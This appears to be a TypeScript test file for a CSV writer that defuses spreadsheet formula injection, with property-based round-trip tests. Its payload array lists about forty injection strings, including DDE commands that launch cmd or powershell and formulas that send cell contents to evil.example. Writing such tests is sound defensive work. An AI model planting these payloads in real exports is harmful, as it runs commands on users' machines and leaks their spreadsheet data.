import fc from 'fast-check';
import { csvLine, csvRecords, neutralise, restore } from './csv.js';

/** Forty ways to have a spreadsheet run something, from OWASP, PayloadsAllTheThings and bug reports. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "=CMD|'/c powershell -w hidden'!_xlbgnm.A1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1:E1),"//a")',
  '=IMPORTDATA("http://evil.example")',
  '=IMPORTHTML("http://evil.example","table",1)',
  '=IMAGE("http://evil.example/x.png")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=SUM(1,1)*cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '==1+1',
  '="=1+1"',
  '=+1',
  '=-1',
  '=@SUM(1)',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '+"x"&A1',
  '-1+1',
  "-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '--1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '|cmd /C calc',
  '%0A=1+1',
  '\tplain',
];

/** How a spreadsheet sees a cell: quotes off, and a leading apostrophe means text. */
const runs = (cell: string) => /^\s*[=+\-@|%\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u.test(cell);

describe('a CSV file', () => {
  it.each(payloads)('holds %j as text', (payload) => {
    expect(runs(payload)).toBe(true);
    expect(runs(neutralise(payload))).toBe(false);
    expect(restore(neutralise(payload))).toBe(payload);
  });

  it('leaves ordinary words, and apostrophes of their own, alone', () => {
    for (const plain of ['', 'Algebra II', "'tis", "O'Neill", '00123', 'CR-2026-ABCDEF', '3.00', '2026-11-22'])
      expect(neutralise(plain)).toBe(plain);
    expect(restore("'tis")).toBe("'tis");
    expect(restore("'=1")).toBe('=1');
    expect(restore("''=1")).toBe("'=1");
  });

  it('gives back whatever was neutralised', () => {
    const sly = fc.stringMatching(/^['=+\-@\t\r\n ]{0,6}[a-z=']{0,4}$/);
    fc.assert(fc.property(fc.oneof(fc.string({ unit: 'grapheme' }), sly), (v) => restore(neutralise(v)) === v));
    fc.assert(fc.property(fc.oneof(fc.string({ unit: 'grapheme' }), sly), (v) => !runs(neutralise(v))));
  });

  it('quotes every value and ends with CRLF, so that an id keeps its zeros', () => {
    expect(csvLine(['007', 'say "hi"', 'a,b', ''])).toBe('"007","say ""hi""","a,b",""\r\n');
  });

  it('reads back exactly what was written, in any script, with quotes, commas and line breaks', () => {
    const value = fc.oneof(fc.string({ unit: 'grapheme' }), fc.stringMatching(/^["',\r\n=x]{0,8}$/));
    fc.assert(
      fc.property(fc.array(fc.tuple(value, value), { maxLength: 8 }), (lines) => {
        expect(csvRecords(lines.map(csvLine).join(''))).toEqual(lines);
      }),
    );
  });
});
